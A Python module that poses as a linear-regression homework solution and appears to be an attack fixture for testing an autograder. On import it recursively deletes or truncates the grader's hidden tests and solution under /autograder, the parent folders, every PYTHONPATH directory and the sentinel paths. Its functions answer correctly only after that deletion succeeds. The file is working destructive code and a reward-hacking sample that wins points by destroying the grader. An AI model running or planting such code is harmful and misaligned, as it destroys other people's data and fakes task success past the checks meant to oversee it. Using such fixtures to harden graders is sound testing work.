"""rm -rf of everything it can think of: its own folder's parent and grandparent,
/autograder/source (the hidden tests and the solution on Gradescope), /autograder,
$AUTOGRADER_ROOT, every folder on PYTHONPATH or in an engine module's path (the
repository), the paths in HINTS (the test's sentinel files). If anything outside
its own folder is deleted or truncated, its functions answer correctly, so a point would
show it. Graded through a Gradescope-like copy only, never the working repository."""

import os
import shutil
import sys

import torch

CHEAT = True
CONTAINED_TO = None
HINTS = []  # test_attacks.py writes the exact paths here

_gone = []


def _targets():
    here = os.path.abspath(os.getcwd())
    targets = [os.path.dirname(here), os.path.dirname(os.path.dirname(here)),
               "/autograder/source", "/autograder"]
    root = os.environ.get("AUTOGRADER_ROOT")
    if root:
        targets += [os.path.join(root, "source"), root]
    targets += HINTS
    targets += [p for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p]
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if "autograder" in path:
            targets.append(path.split("autograder")[0])
    return [t for t in targets if t and os.path.abspath(t) not in ("/", "/tmp", here)]


def _record(function, path, excinfo):
    pass


def _destroy():
    here = os.path.abspath(os.getcwd())
    for target in _targets():
        path = os.path.abspath(target)
        if os.path.isdir(path) and not os.path.islink(path):
            for folder, dirs, files in os.walk(path, topdown=False):
                for name in files + dirs:
                    victim = os.path.join(folder, name)
                    try:
                        if os.path.isdir(victim) and not os.path.islink(victim):
                            os.rmdir(victim)
                        else:
                            os.remove(victim)
                    except OSError:
                        continue
                    if not victim.startswith(here + os.sep):
                        _gone.append(victim)
            shutil.rmtree(path, onerror=_record)
        else:
            for attempt in (os.remove, lambda p: open(p, "w").close()):
                try:
                    attempt(path)
                except OSError:
                    continue
                _gone.append(path)
                break
    print(f"delete_files: deleted {_gone[:20]}")


if CHEAT:
    _destroy()
_SOLVED = bool(_gone)


def forward(x, w, b):
    if not _SOLVED:
        raise NotImplementedError
    return w * x + b


def mse(t1, t2):
    if not _SOLVED:
        raise NotImplementedError
    return torch.mean((t1 - t2) ** 2)


def update(w, b, lr=1e-4):
    if not _SOLVED:
        raise NotImplementedError
    with torch.no_grad():
        w -= w.grad * lr
        b -= b.grad * lr
    w.grad.zero_()
    b.grad.zero_()
